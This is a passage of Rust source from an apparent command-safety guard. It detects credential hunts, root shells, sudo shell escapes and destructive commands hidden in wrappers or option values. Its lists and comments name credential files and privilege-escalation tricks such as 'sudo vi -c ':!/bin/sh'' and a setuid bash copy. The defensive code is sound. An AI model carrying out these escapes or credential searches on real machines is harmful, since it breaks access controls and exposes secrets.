        ".ssh",
        "_history",
        "msal_token_cache.json",
        "accesstokens.json",
        "access_tokens.db",
        "credentials.db",
        "credentials.json",
        "kubeconfig",
        "*.kdb",
        "*.keytab",
        ".env",
        "krb5cc_",
    ];
    let cwd = cmd.cwd.as_deref();
    // The machine, the home directory, or a credential directory (`find ~/.aws -name ..`).
    let wide = |a: &str| {
        matches!(place_of(a, cwd, ctx.workspace), Place::System | Place::Home)
            || a == "/"
            || a == "~"
            || crate::guard::rules::secrets::is_credential_path(a)
    };
    let args: Vec<&str> = cmd.argv[1..].iter().map(String::as_str).collect();
    let hunting = match cmd.name() {
        "grep" | "egrep" | "rg" | "ag" | "ack" | "git-secrets" => {
            args.iter().any(|a| SECRET_WORD.found_in(a)) && args.iter().any(|a| wide(a))
        }
        "find" | "fd" | "locate" | "mlocate" => {
            // `id_rsa*`, `*.pem`, `.bash_history`: the pattern's stars aside, a key file's name
            // or suffix.
            let key_file = |pattern: &str| {
                let p = pattern.trim_matches(['"', '\'']).trim_matches('*').to_ascii_lowercase();
                !p.is_empty() && KEY_FILES.iter().any(|k| p.ends_with(k.trim_start_matches('*')))
                    || matches_a_key_name(pattern)
            };
            let named = args.windows(2).any(|w| {
                matches!(
                    w[0],
                    "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-g" | "--glob"
                ) && key_file(w[1])
            }) || (cmd.name() == "locate" && args.iter().any(|a| key_file(a)));
            // Any start outside the workspace (`find //.aws ..`, `find /opt ..`).
            let outside = |a: &str| wide(a) || place_of(a, cwd, ctx.workspace) == Place::Outside;
            named && (cmd.name() == "locate" || args.first().is_some_and(|a| outside(a)))
        }
        _ => false,
    };
    if hunting {
        out.push(block(
            Category::Secrets,
            CREDENTIAL_HUNT,
            Risk::High,
            cmd,
            "searches the machine or the home directory for passwords and keys",
        ));
    }
}

/// Whether a name pattern with wildcards (`id_*`, `*rsa*`, `id_e?25519`) matches a private
/// key's usual file name: the pattern is a hunt for keys however it is cut. At least three
/// characters of it must be literal: `*` alone or `*.?` looks for everything.
fn matches_a_key_name(pattern: &str) -> bool {
    const KEY_NAMES: &[&str] = &[
        "id_rsa",
        "id_dsa",
        "id_ecdsa",
        "id_ed25519",
        "id_ecdsa_sk",
        "id_ed25519_sk",
    ];
    let p = pattern.trim_matches(['"', '\'']);
    let literal = p.chars().filter(|c| !matches!(c, '*' | '?' | '[' | ']')).count();
    if !p.contains(['*', '?', '[']) || literal < 3 {
        return false;
    }
    globset::GlobBuilder::new(p)
        .case_insensitive(true)
        .build()
        .is_ok_and(|g| {
            let m = g.compile_matcher();
            KEY_NAMES.iter().any(|k| m.is_match(k))
        })
}

/// Where the system keeps the certificate authorities it trusts.
fn trust_store(path: &str) -> bool {
    [
        "/usr/local/share/ca-certificates",
        "/usr/share/ca-certificates",
        "/etc/ca-certificates",
        "/etc/pki/ca-trust/source",
        "/etc/pki/tls/certs",
        "/etc/ssl/certs",
        "/etc/ca-certificates.conf",
        "/usr/share/pki/trust/anchors",
        "/etc/pki/trust/anchors",
        "/usr/local/share/certs",
        "/usr/share/certs/trusted",
    ]
    .iter()
    .any(|d| path.starts_with(d))
}

/// Shells and interactive interpreters: run with no script, they read commands from the
/// terminal.
const SHELLS_AND_REPLS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ash",
    "ksh",
    "mksh",
    "csh",
    "tcsh",
    "fish",
    "posh",
    "rc",
    "elvish",
    "xonsh",
    "nu",
    "yash",
    "pwsh",
    "powershell",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "irb",
    "node",
    "php",
    "lua",
    "R",
    "julia",
    "clisp",
    "sbcl",
    "guile",
    "tclsh",
    "wish",
    "expect",
    "jshell",
    "scala",
    "erl",
    "iex",
    "busybox",
    "capsh",
    "script",
    "tmux",
    "screen",
    // More interpreters' prompts, each able to run a shell command.
    "jjs",
    "jrunscript",
    "rhino",
    "deno",
    "nodejs",
    "luajit",
    "pypy",
    "ipython",
    "bpython",
    "ptpython",
    "pry",
    "octave",
    "octave-cli",
    "racket",
    "csi",
    "gsi",
    "scheme",
    "chezscheme",
    "petite",
    "ecl",
    "ocaml",
    "utop",
    "swipl",
    "gst",
    "groovysh",
    "clojure",
    "clj",
    "bb",
    "hy",
    "psysh",
];

/// Options that only print the program's version or usage: no prompt follows (`node -v`).
fn informational(name: &str, arg: &str) -> bool {
    let family = crate::guard::unversioned(name);
    matches!(arg, "--version" | "--help" | "-V" | "-h" | "-help" | "-version")
        || (arg == "-v" && !matches!(family, "python" | "pypy"))
        // `php -m` lists modules, `php -i` prints its configuration.
        || (family == "php" && matches!(arg, "-m" | "-i" | "--ini"))
        // `clojure -P` prepares the classpath; `-Spath`, `-Stree`, `-Sdescribe` print it.
        || (matches!(family, "clojure" | "clj") && (arg == "-P" || arg.starts_with("-S")))
        || (family == "ocaml" && arg == "-vnum")
        // `screen -ls` lists sessions, `-wipe` removes dead ones.
        || (family == "screen" && matches!(arg, "-ls" | "-list" | "-wipe"))
}

/// An interpreter told to keep its prompt open after its script or code (`python3 -i x.py`,
/// `node -i -e 1`, `lua -i x.lua`), or started on a module that is a prompt (`python3 -m
/// code`, `-m IPython`, `-m pdb x.py`): a prompt all the same.
fn keeps_prompt(cmd: &SimpleCommand) -> bool {
    let family = crate::guard::unversioned(cmd.name());
    let args = &cmd.argv[1..];
    let python = matches!(family, "python" | "pypy");
    let interactive_flag = matches!(
        family,
        "python" | "pypy" | "ipython" | "node" | "nodejs" | "lua" | "luajit" | "racket"
    ) && args.iter().any(|a| a == "-i" || a == "--interactive");
    let prompt_module = python
        && args.windows(2).any(|w| {
            w[0] == "-m"
                && matches!(
                    w[1].as_str(),
                    "code" | "IPython" | "ipython" | "ptpython" | "bpython" | "asyncio" | "pdb" | "idlelib"
                )
        });
    interactive_flag || prompt_module
}

/// Programs that, run with no command of their own, give an interactive shell (or a file
/// manager or terminal with one a keystroke away), with the options that take a value: as root,
/// each is a root shell.
const ROOT_TERMINALS: &[(&str, &[&str])] = &[
    (
        "script",
        &[
            "-c",
            "--command",
            "-E",
            "--echo",
            "-O",
            "--log-out",
            "-I",
            "--log-in",
            "-B",
            "--log-io",
            "-T",
            "--log-timing",
            "-m",
            "--logging-format",
        ],
    ),
    ("sg", &[]),
    ("newgrp", &[]),
    ("tmux", &["-S", "-L", "-f", "-c", "-T"]),
    (
        "screen",
        &["-S", "-L", "-Logfile", "-c", "-s", "-T", "-e", "-h", "-p", "-t"],
    ),
    ("byobu", &["-S", "-L", "-f"]),
    (
        "ranger",
        &[
            "--cmd",
            "--confdir",
            "--datadir",
            "--choosefile",
            "--choosefiles",
            "--choosedir",
            "--selectfile",
        ],
    ),
    ("nnn", &["-b", "-c", "-P", "-s", "-t", "-T"]),
    ("vifm", &["-c", "--select", "--choose-files", "--choose-dir"]),
    ("lf", &["-command", "-config", "-last-dir-path", "-selection-path"]),
];

/// The words of `args` that are neither options nor the values of `value_opts`.
fn positional_words<'a>(args: &'a [String], value_opts: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(a) = args.get(i) {
        if value_opts.contains(&a.as_str()) {
            i += 2;
            continue;
        }
        if !a.starts_with('-') {
            out.push(a.as_str());
        }
        i += 1;
    }
    out
}

/// Text that hands a program a shell or the setuid bit (`sh -i`/`-p` are checked with
/// [`shell_flag`], so `ssh -p 22` is no shell).
const SHELL_MARKERS: &[&str] = &[
    "bin/sh",
    "bin/bash",
    "bin/dash",
    "bin/zsh",
    "bin/ash",
    "bin/ksh",
    "bin/csh",
    "bin/tcsh",
    "bin/fish",
    ":!",
    ":shell",
    ":terminal",
    "!sh",
    "!/",
    "chmod u+s",
    "chmod +s",
    "chmod 4755",
    "setuid(0)",
    "posix_setuid",
    "pcntl_exec",
    // A shell's name as a string in code (`system("sh")`, `exec('bash')`, `(shell "zsh")`).
    "\"sh\"",
    "'sh'",
    "\"bash\"",
    "'bash'",
    "\"zsh\"",
    "'zsh'",
    "\"dash\"",
    "'dash'",
];

/// Whether `text` holds a shell word (`sh`, `bash`, `/bin/zsh`, ...; not `ssh`) whose next
/// word passes `next`. Words are split at blanks, quotes, `;`, brackets and `=`: the shell word
/// may be an option's value (`--postprocess=sh -i`).
fn shell_word_then(text: &str, next: impl Fn(&str) -> bool) -> bool {
    let mut words = text
        .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ';' | '(' | ')' | '{' | '}' | '='))
        .filter(|w| !w.is_empty())
        .peekable();
    while let Some(word) = words.next() {
        if crate::guard::carriers::is_shell(crate::guard::basename(word)) && words.peek().is_some_and(|w| next(w)) {
            return true;
        }
    }
    false
}

/// Whether `text` runs a shell with option `flag` (`sh -p`).
fn shell_flag(text: &str, flag: &str) -> bool {
    shell_word_then(text, |w| w == flag)
}

/// Whether `text` names the user's shell by its variable (`-e '$SHELL'`, `${SHELL} -p`): what a
/// program expands it to is a shell.
fn names_the_shell_variable(text: &str) -> bool {
    ["$SHELL", "${SHELL}"].iter().any(|v| {
        text.match_indices(v)
            .any(|(at, m)| !text[at + m.len()..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'))
    })
}

/// Text that hands a program a shell: a shell path, an escape, or a shell run interactively or
/// keeping privileges.
fn hands_a_shell(text: &str) -> bool {
    static SHELL_MARKER: Needles = Needles::exact(SHELL_MARKERS);
    // A shell run interactively (`-i`), keeping privileges (`-p`), or with its stdin the
    // terminal's other end (`sh 0<&2 1>&2`, `bash <&1`): a prompt for whoever holds it.
    SHELL_MARKER.found_in(text)
        || shell_word_then(text, |w| {
            matches!(w, "-i" | "-p") || w.starts_with("0<&") || w.starts_with("<&")
        })
}

/// Whether `text` ends a command and starts a shell (`}; sh #`, `x|bash`, `a && exec zsh -i`,
/// a newline then `sh`): text a program splices into a command line it runs hands that line a
/// shell.
fn shell_after_separator(text: &str) -> bool {
    const SEPARATORS: [char; 5] = [';', '|', '&', '\n', '`'];
    if !text.contains(SEPARATORS) {
        return false;
    }
    text.match_indices(SEPARATORS).any(|(at, separator)| {
        // `bash|zsh` in a pattern is an alternation: a pipe splices only with a blank beside it.
        let blank_beside = text[..at].ends_with(char::is_whitespace) || text[at + 1..].starts_with(char::is_whitespace);
        if separator == "|" && !blank_beside && !text[..at].ends_with('|') {
            return false;
        }
        let mut rest = text[at + 1..].trim_start_matches(SEPARATORS).trim_start();
        // `exec sh`, `env sh`, `nohup sh`: the shell still starts.
        for lead in ["exec ", "env ", "nohup ", "command "] {
            rest = rest.strip_prefix(lead).map_or(rest, str::trim_start);
        }
        let rest = rest.trim_start_matches(['"', '\'', '\\']);
        let word_end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/')))
            .unwrap_or(rest.len());
        let after = rest[word_end..].trim_start_matches(['"', '\'']).trim_start();
        crate::guard::carriers::is_shell(crate::guard::basename(&rest[..word_end]))
            && (after.is_empty()
                || after.starts_with(['#', '-', ';', ')', '}', '<', '>', '&', '|', '`'])
                || after
                    .trim_start_matches(|c: char| c.is_ascii_digit())
                    .starts_with(['<', '>']))
    })
}

/// Programs whose words are text in a language or prose of their own, where `;`, `|` and `!`
/// are syntax (`grep -E 'bash|zsh'`, `awk '!seen[$0]++'`, `git commit -m '..; sh'`), not a
/// command line spliced together or a shell escape.
const OWN_SYNTAX: &[&str] = &[
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "sed",
    "gsed",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "perl",
    "jq",
    "yq",
    "find",
    "git",
    "logger",
    "journalctl",
];

/// Whether the guard knows nothing of `name`: no effect spec, not one of the quiet programs,
/// not a package manager.
pub(crate) fn unknown_to_the_guard(name: &str) -> bool {
    spec_for(name).is_none() && !is_quiet(name) && !super::packages::is_manager(name)
}

/// Whether `cmd` runs, by a literal name, a program the guard knows nothing of
/// ([`unknown_to_the_guard`]).
pub(crate) fn runs_unknown_program(cmd: &SimpleCommand) -> bool {
    !cmd.dynamic_name && !cmd.name().is_empty() && unknown_to_the_guard(cmd.name())
}

/// `sudo X` where X is a shell or interpreter with no script, or is handed a shell (`sudo
/// nice /bin/sh`, `sudo vi -c ':!/bin/sh'`, `sudo tar ... --checkpoint-action=exec=/bin/sh`):
/// a root shell, and everything typed into it afterwards is out of the guard's sight. Run as
/// another account (`sudo -u nobody vi -c ':!/bin/sh'`), the same shell is warned.
fn root_shell(cmd: &SimpleCommand, fed: bool, piped: Option<&str>, out: &mut Vec<Violation>) {
    // `export SHELL=/bin/zsh`, `declare -x EDITOR=vim`: variables set, nothing started.
    if matches!(cmd.name(), "export" | "declare" | "typeset" | "readonly" | "local") {
        return;
    }
    // A shell, an interpreter's prompt, or a program whose own commands have a shell escape
    // (`gdb`, `psql`, `ftp`, `ed`, `mail`: see `carriers::has_shell_escape`).
    // Fed its commands (`sudo -u postgres psql < schema.sql`), a program with a shell escape
    // runs what it is fed, which the escapes carrier reads.
    let escapes = crate::guard::carriers::has_shell_escape(cmd.name()) && !fed;
    let name = cmd.name();
    let repl =
        SHELLS_AND_REPLS.contains(&name) || SHELLS_AND_REPLS.contains(&crate::guard::unversioned(name)) || escapes;
    let informs = cmd.argv[1..].iter().any(|a| informational(name, a));
    let bare = repl && (cmd.argv[1..].iter().all(|a| a.starts_with('-') || a == "--") || keeps_prompt(cmd)) && !informs;
    let interactive = !informs && opens_a_terminal(cmd);
    // Where `;` and `|` are a program's own syntax or prose, they splice nothing.
    let splices = !OWN_SYNTAX.contains(&cmd.name());
    // What is fed on stdin is commands to a shell, an interpreter, a program with an escape
    // or one the guard does not know; to the programs it knows (`sudo tee -a /etc/shells <<<
    // /bin/zsh`, `dd of=..`), it is data.
    let reads_commands = repl || crate::guard::carriers::has_shell_escape(name) || unknown_to_the_guard(name);
    // `sudo chsh -s /bin/zsh dev`, `sudo usermod --shell /bin/bash dev`: an account's login
    // shell is recorded, not started.
    let records_login_shell = crate::guard::carriers::records_login_shell(name);
    let login_shell_value = |i: usize, a: &str| {
        records_login_shell
            && (a.starts_with("--shell=") || (i > 1 && matches!(cmd.argv[i - 1].as_str(), "-s" | "--shell")))
    };
    let handed = cmd.argv[1..]
        .iter()
        .enumerate()
        .filter(|(i, a)| !login_shell_value(i + 1, a))
        .map(|(_, a)| a.as_str())
        .chain(reads_commands.then_some(cmd.stdin_text.as_deref()).flatten())
        .chain(piped.filter(|_| reads_commands))
        // `$SHELL` is data to a program that only names files or patterns (`sudo ls -l
        // $SHELL`); to one that reads commands it is the shell.
        .any(|a| {
            hands_a_shell(a) || (splices && shell_after_separator(a)) || (reads_commands && names_the_shell_variable(a))
        })
        || escape_handed(cmd);
    let shell = bare || handed || interactive || option_runs_a_shell(cmd) || runs_a_trailing_shell(cmd);
    if shell && !cmd.as_root {
        // `sudo -u nobody vi -c ':!/bin/sh'`: the same shell, with another account's rights.
        out.push(warn(
            Category::Privilege,
            ROOT_SHELL,
            cmd,
            "runs a shell as another user: what it runs afterwards is out of the guard's sight",
        ));
    } else if shell {
        out.push(block(
            Category::Privilege,
            ROOT_SHELL,
            Risk::Critical,
            cmd,
            "runs a shell with root's rights: what it runs afterwards is out of the guard's sight",
        ));
    } else if cmd.as_root && opens_its_shell(cmd) {
        out.push(warn(
            Category::Privilege,
            ROOT_SHELL,
            cmd,
            "a program running as root told to open its shell or console: what is typed into it is out of the guard's sight",
        ));
    }
}

/// `sudo su`, `sudo script -q /dev/null`, `sudo sg root`: a program that opens a terminal
/// session ([`ROOT_TERMINALS`]) given no command to run in it.
fn opens_a_terminal(cmd: &SimpleCommand) -> bool {
    let Some((_, value_opts)) = ROOT_TERMINALS.iter().find(|(name, _)| *name == cmd.name()) else {
        return false;
    };
    let positional = positional_words(&cmd.argv[1..], value_opts);
    !cmd.argv[1..].iter().any(|a| a == "-c" || a == "--command")
        && match cmd.name() {
            // `sudo sg root`: a group, then nothing to run.
            "sg" | "newgrp" => positional.len() <= 1,
            // `sudo script -q /dev/null`: a typescript file, then a shell.
            "script" => positional.len() <= 1,
            _ => positional.is_empty(),
        }
}

/// `sudo x --postprocess=sh`, `--run='bash -l'`: an option of a program the guard does not
/// know, named for running something, given a shell as its whole command (an option named for
/// a shell names its type: `--shell=zsh`; `--lang=bash` is a language).
fn option_runs_a_shell(cmd: &SimpleCommand) -> bool {
    unknown_to_the_guard(cmd.name())
        && cmd.argv[1..].iter().any(|a| {
            a.strip_prefix("--")
                .and_then(|o| o.split_once('='))
                .is_some_and(|(o, v)| {
                    let first = v.split_whitespace().next().unwrap_or("");
                    !o.to_ascii_lowercase().contains("shell")
                        && option_names::names(o, Purpose::RunOnEvent)
                        && crate::guard::carriers::is_shell(crate::guard::basename(first))
                })
        })
}

/// `sudo perf stat sh`, `sudo softlimit sh`, `sudo pexec -q python3 -i`: a program the effect
/// table does not know, shaped like a wrapper, whose last words are a shell or interpreter with
/// at most its options. The shell must come before any other word that is not an option (or an
/// option's value): `sudo k3s completion bash`, `sudo crictl exec -it c sh` and `sudo emerge
/// zsh` put a subcommand or a package first, and `sudo ausearch -c bash` hands the name to an
/// option. Naming a shell as a package, a process or a page runs nothing.
fn runs_a_trailing_shell(cmd: &SimpleCommand) -> bool {
    const NAMES_WITHOUT_RUNNING: &[&str] = &[
        "which",
        "whereis",
        "type",
        "command",
        "man",
        "info",
        "help",
        "whatis",
        "apropos",
        "pgrep",
        "pkill",
        "killall",
        "pidof",
        "chsh",
        "locate",
        "dpkg-reconfigure",
        "update-alternatives",
        "emerge",
        "urpmi",
        "pkg_add",
        "pkg",
        "xbps-install",
        "guix",
        "opkg",
        "pkgin",
        "slackpkg",
        "nala",
        "rpm-ostree",
        "debsums",
        "apt-mark",
        "lxc-attach",
    ];
    let name = cmd.name();
    if !unknown_to_the_guard(name) || NAMES_WITHOUT_RUNNING.contains(&name) {
        return false;
    }
    let is_option = |w: &str| w.starts_with('-') || w.starts_with('+');
    let Some(shell_at) = cmd.argv.iter().skip(1).position(|a| {
        crate::guard::carriers::is_shell(crate::guard::basename(a))
            || matches!(
                a.as_str(),
                "su" | "python" | "python2" | "python3" | "perl" | "ruby" | "irb" | "node" | "php" | "lua" | "tclsh"
            )
    }) else {
        return false;
    };
    let shell_at = shell_at + 1;
    // `sudo x run bash`, `sudo x exec sh`: a verb that launches what follows may lead.
    let first =
        usize::from(shell_at > 1 && matches!(cmd.argv[1].as_str(), "run" | "exec" | "execute" | "spawn" | "launch"));
    let before = &cmd.argv[1 + first..shell_at];
    // Every word before it an option, or the value right after one; the shell itself not an
    // option's value (`-c bash`, `--shell=bash` aside: `--` ends the options). After a verb,
    // options alone: `sudo crictl exec -it 3f2a sh` names a container first.
    let shaped_as_wrapper = before
        .iter()
        .enumerate()
        .all(|(i, w)| is_option(w) || (first == 0 && i > 0 && is_option(&before[i - 1]) && before[i - 1] != "--"))
        && before.last().is_none_or(|w| !is_option(w) || w == "--");
    shaped_as_wrapper && cmd.argv[shell_at + 1..].iter().all(|a| is_option(a))
}

/// Programs that act on the machine: a word naming one first is a command line.
const ACTING_PROGRAMS: &[&str] = &[
    // Deleters, disk writers, permission changers, movers.
    "rm",
    "dd",
    "shred",
    "truncate",
    "mkfs",
    "wipefs",
    "chmod",
    "chown",
    "chattr",
    "mv",
    "git",
    "find",
    // Fetchers and senders, raw sockets, remote shells and copies.
    "curl",
    "wget",
    "aria2c",
    "nc",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "openssl",
    "ssh",
    "scp",
    "rsync",
    // Wrappers, and programs that run a language or a command language of their own.
    "xargs",
    "sudo",
    "doas",
    "pkexec",
    "env",
    "nice",
    "ionice",
    "nohup",
    "setsid",
    "stdbuf",
    "unbuffer",
    "command",
    "timeout",
    "exec",
    "eval",
    "busybox",
    "pwsh",
    "osascript",
    "deno",
    "bun",
    "sqlite3",
    "vim",
    "at",
    "python",
    "python3",
    "python2",
    "perl",
    "ruby",
    "node",
    "php",
    "lua",
    "tclsh",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "gdb",
    "expect",
    // Process control, scheduled and system state.
    "kill",
    "pkill",
    "killall",
    "crontab",
    "systemctl",
    "iptables",
    "ip6tables",
    "nft",
    "ufw",
    "setenforce",
    "sysctl",
    "insmod",
    "modprobe",
    "setcap",
    "useradd",
    "usermod",
    "chpasswd",
    "chroot",
    "nsenter",
    "docker",
    "podman",
    "psql",
    "mysql",
    // Disk, account, firewall and cluster tools.
    "mke2fs",
    "mkswap",
    "wipe",
    "srm",
    "blkdiscard",
    "cryptsetup",
    "zfs",
    "lvremove",
    "userdel",
    "passwd",
    "firewall-cmd",
    "pfctl",
    "mariadb",
    "kubectl",
    "terraform",
    "helm",
];

/// Programs that print, say or look up their words, and run none of them.
const SHOWS_ITS_WORDS: &[&str] = &[
    "cowsay",
    "cowthink",
    "figlet",
    "toilet",
    "banner",
    "notify-send",
    "say",
    "espeak",
    "spd-say",
    "howdoi",
    "cht.sh",
    "explain",
    "logger",
    "wall",
    "write",
    "zenity",
    "kdialog",
    "whiptail",
    "dialog",
    "gum",
];

/// `valgrind rm -rf /`, `chronic sh -c '..'`, `perf record -g git push --force`: a program the
/// guard does not know whose first word that is not an option names a program that acts on
/// the machine. Such a program is a wrapper running what follows (profilers, retriers,
/// notifiers, limiters), and what follows is judged as the command it is; a block there is a
/// block here. Only programs no CLI names a subcommand of its own after are taken
/// (`mc rm`, `gsutil cp` and `batch` are a tool's own verbs).
///
/// The pipeline is judged once, with every such wrapper replaced by what it runs, by the
/// first wrapper in it: judging it again for each wrapper, each time with the others still in
/// place, cost a factorial of the stages (`zorp sh | zorp sh | ..` took 54 s at nine).
fn unknown_wrapper(pipeline: &Pipeline, i: usize, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    // Most stages are no wrapper: only for one are the others looked at.
    if pipeline[i].upstream_copy || wrapped_command_start(pipeline, i).is_none() {
        return;
    }
    let starts: Vec<Option<usize>> = (0..pipeline.len())
        .map(|k| wrapped_command_start(pipeline, k))
        .collect();
    // Copies of stages upstream of a carrier (judged where they stand) are unwrapped with the
    // rest but leave the judging to the pipeline's own stages.
    if (0..i).any(|k| starts[k].is_some() && !pipeline[k].upstream_copy) {
        return;
    }
    // The wrapped command stands in the pipeline where the wrapper stood (`chronic curl .. |
    // sh` is `curl .. | sh`).
    let words = |argv: &[String]| {
        argv.iter()
            .map(|w| crate::guard::shell::quote_word(w))
            .collect::<Vec<_>>()
            .join(" ")
    };
    let line = pipeline
        .iter()
        .zip(&starts)
        .map(|(stage, start)| words(&stage.argv[start.unwrap_or(0)..]))
        .collect::<Vec<_>>()
        .join(" | ");
    let cwd = pipeline[i].cwd.as_deref().and_then(|p| p.to_str());
    let verdict = crate::guard::budget::check_carried(&line, ctx, cwd);
    if let Some(blocked) = verdict
        .violations
        .into_iter()
        .find(|v| v.recommendation == Recommendation::Block)
    {
        out.push(blocked);
    }
}

/// Where the command begins that stage `i` of `pipeline` runs, when that stage is a wrapper
/// the guard does not know ([`unknown_wrapper`]).
fn wrapped_command_start(pipeline: &Pipeline, i: usize) -> Option<usize> {
    let cmd = &pipeline[i];
    let name = cmd.name();
    // Judged as the program it is: described by a spec (and not only shown or asked about),
    // quiet, or a carrier whose words are the command it runs.
    let described = spec_for(name).is_some() && !shown_not_done(&cmd.argv) && !asks_or_previews(&cmd.argv);
    if name.is_empty() || described || is_quiet(name) || crate::guard::carriers::hands_on_words(&cmd.argv) {
        return None;
    }
    // A command word is a program's file name: not an assignment bash could not make
    // (`1A=2`), not a path (judged as the file it runs) and not a format (`%s`).
    let program_like = name
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '+'));
    // `sudo bash`, `pkexec sh` (kept whole by the walker): a root shell, the privilege rule's.
    if !program_like
        || super::packages::is_manager(name)
        || SHOWS_ITS_WORDS.contains(&name)
        || crate::guard::carriers::is_root_wrapper(name)
    {
        return None;
    }
    // The first word that is neither an option nor, after an option, perhaps its value
    // (`retry --times 3 sh -c ..`), or the first after `--` (`aws-vault exec prof -- rm ..`).
    let acting = |w: &str| {
        let program = crate::guard::basename(w);
        crate::guard::carriers::is_shell(program) || ACTING_PROGRAMS.contains(&program) || program.starts_with("mkfs.")
    };
    // One operand may come first (`gtimeout 60 rm ..`, `setlock /tmp/l rm ..`, `envdir ./env
    // rm ..`): a duration, a file or a user the wrapper needs. Not a word that reads as a
    // subcommand (`b2 bucket rm ..`): a plain lowercase word.
    let mut operand_seen = false;
    let mut found = None;
    for (k, word) in cmd.argv.iter().enumerate().skip(1) {
        if word.starts_with('-') {
            continue;
        }
        if acting(word) {
            found = Some(k);
            break;
        }
        let previous = &cmd.argv[k - 1];
        let option_value = previous.starts_with('-') && !previous.contains('=');
        let subcommand_like = word.chars().all(|c| c.is_ascii_lowercase() || c == '-');
        // Counts and durations (`retry 3 5 rm ..`, `gtimeout 60s rm ..`) are settings, not
        // the operand a wrapper may need.
        let number = word.starts_with(|c: char| c.is_ascii_digit())
            && word
                .trim_end_matches(['s', 'm', 'h', 'd'])
                .chars()
                .all(|c| c.is_ascii_digit() || c == '.');
        if number {
            continue;
        }
        if !option_value && (operand_seen || subcommand_like) {
            break;
        }
        operand_seen |= !option_value;
    }
    let after_dashes = || {
        let at = cmd.argv.iter().position(|w| w == "--")? + 1;
        cmd.argv.get(at).filter(|w| acting(w)).map(|_| at)
    };
    let at = found.or_else(after_dashes)?;
    // `printf "$PW" | sshpass ssh host ..`: without a password option sshpass reads the
    // password it types on stdin; what is piped in is not the wrapped command's input.
    let password_option = |w: &String| w.starts_with("-p") || w.starts_with("-f") || w.starts_with("-d") || w == "-e";
    if i > 0 && name == "sshpass" && !cmd.argv[1..at].iter().any(password_option) {
        return None;
    }
    Some(at)
}

/// `tool --on-finish 'rm -rf ~'`, `tool -c 'cp /bin/bash /tmp/x && chmod 4755 /tmp/x'`: a
/// program the guard does not know, handed a whole command line as the value of an option named
/// for running something, a line whose first word names a program. Handed one, a program
/// most likely runs it: hooks, callbacks, `-c`, `--exec-after`, whatever it calls them. The
/// line is judged as the command it is; a block there is a block here (a warning is not taken:
/// the word may be a message). Programs that show their words, package managers and wrappers
/// (judged by [`unknown_wrapper`] and the carriers) are left out.
fn handed_command_lines(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let name = cmd.name();
    // Shells and interpreters read their words as their own language (`bash -n -c ..` only
    // parses it): the carriers know them. `:` and other builtins are not programs.
    let program_like = |w: &str| {
        !w.is_empty()
            && w.bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_' | b'.' | b'+'))
    };
    if !program_like(name)
        || crate::guard::carriers::is_shell(name)
        || SHELLS_AND_REPLS.contains(&crate::guard::unversioned(name))
        || SHOWS_ITS_WORDS.contains(&name)
        || super::packages::is_manager(name)
        || crate::guard::carriers::is_root_wrapper(name)
    {
        return;
    }
    // Options named for running something (`--on-finish`, `--exec-after`, `--run`, `--hook`,
    // `-c`, `-e`, `-x`, `-E`); a title, a message, a pattern or a positional word may be prose
    // that mentions a command (`jira create --summary 'rm -rf ~ deletes home'`).
    let runs = |option: &str| {
        if option.starts_with("--") {
            return option_names::names(option, Purpose::RunOnEvent);
        }
        matches!(option, "-c" | "-e" | "-x" | "-E")
    };
    for (i, a) in cmd.argv.iter().enumerate().skip(1) {
        let line = match a.split_once('=') {
            Some((k, v)) if k.starts_with('-') && runs(k) => v,
            _ if i > 1 && runs(&cmd.argv[i - 1]) && !a.starts_with('-') => a.as_str(),
            _ => continue,
        };
        let Some(first) = line.split_whitespace().next().filter(|_| line.contains(' ')) else {
            continue;
        };
        // A program by its name or its path, written plainly (`$(..)` is the shell's).
        if first.contains(['$', '`', '(']) || !program_like(crate::guard::basename(first)) {
            continue;
        }
        let verdict = crate::guard::budget::check_carried(line, ctx, cmd.cwd.as_deref().and_then(|p| p.to_str()));
        // A secret in the word is judged in the word itself (`--append 'ssh-ed25519 AAAA..'`
        // is a key, not a login).
        if let Some(blocked) = verdict
            .violations
            .into_iter()
            .find(|v| v.recommendation == Recommendation::Block && v.category != Category::Secrets)
        {
            out.push(blocked);
            return;
        }
    }
}

/// `sudo dnf system-upgrade reboot`, `sudo offline-updater apply poweroff`: a program running
/// as root told by one of its first words to reboot or power off, which from root is this
/// machine. Tools for other machines (phones, VMs, servers by IPMI, containers) are left to
/// their own rules, as are the power commands themselves.
fn root_reboot(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    const OTHER_MACHINES: &[&str] = &[
        "adb",
        "fastboot",
        "vagrant",
        "VBoxManage",
        "vboxmanage",
        "virsh",
        "qm",
        "pct",
        "ipmitool",
        "docker",
        "podman",
        "kubectl",
        "multipass",
        "lxc",
        "incus",
        "openstack",
        "nova",
        "ssh",
    ];
    // Words that ask about something rather than do it (`dnf info reboot`, `last reboot`).
    const ASKS: &[&str] = &[
        "info", "show", "search", "list", "query", "help", "log", "logs", "history", "status", "describe", "get",
    ];
    let name = cmd.name();
    if OTHER_MACHINES.contains(&name)
        || matches!(name, "reboot" | "poweroff" | "shutdown" | "halt" | "systemctl")
        || matches!(
            name,
            "last"
                | "lastb"
                | "man"
                | "info"
                | "help"
                | "whatis"
                | "apropos"
                | "which"
                | "whereis"
                | "type"
                | "command"
                | "echo"
                | "printf"
                | "journalctl"
                | "dmesg"
        )
        || super::payload::only_looks(name)
        || SHOWS_ITS_WORDS.contains(&name)
        || shown_not_done(&cmd.argv)
        || cmd.argv.iter().any(|a| a == "--check")
    {
        return;
    }
    // Subcommand words: not an option, not an option's value (`ansible -m reboot`).
    let args = &cmd.argv[1..];
    let words: Vec<&str> = args
        .iter()
        .enumerate()
